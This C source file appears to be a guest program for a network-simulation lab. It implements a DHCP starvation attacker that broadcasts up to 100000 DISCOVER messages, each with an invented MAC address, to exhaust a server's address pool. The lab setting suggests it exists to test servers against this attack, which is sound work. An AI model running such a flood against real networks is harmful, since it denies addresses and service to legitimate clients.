/* SPDX-License-Identifier: GPL-2.0-or-later */
/* dhcp-starve [COUNT]: an attacker. Sends DISCOVER messages (300 unless told), each as if
 * another client looked for an address: the MAC address in the message is invented, and
 * the server has nothing else to tell clients by. */
#include "hv-core/guest/hvlab.h"
#include "netsim/proto/dhcp.h"

#define PAUSE_NS   (2 * NS_PER_SEC / 1000)
#define EVERYBODY  0xffffffffu
#define MOST_COUNT 100000

int main(int argc, char **argv)
{
    const char *end = "";
    uint64_t count = argc > 1 ? parse_number(argv[1], &end) : 300;
    int socket = udp_open(0);

    if (argc > 2 || *end || count > MOST_COUNT || socket < 0) {
        print("usage: dhcp-starve [COUNT]\n");
        return 2;
    }
    for (uint32_t i = 0; i < count; i++) {
        uint8_t bytes[NET_DHCP_MAX_BYTES];
        NetDhcp message = {
            .operation = NET_DHCP_BOOTREQUEST,
            .type = NET_DHCP_DISCOVER,
            .xid = i,
            .broadcast = true,
            .mac = {{0x02, 0x66, 0, (uint8_t)(i >> 16), (uint8_t)(i >> 8), (uint8_t)i}},
        };
        size_t length = net_dhcp_write(bytes, &message);

        udp_send(socket, EVERYBODY, NET_DHCP_SERVER_PORT, bytes, length);
        sleep_ns(PAUSE_NS);
    }
    printf("dhcp-starve: asked in the name of %lu clients\n", count);
    return 0;
}
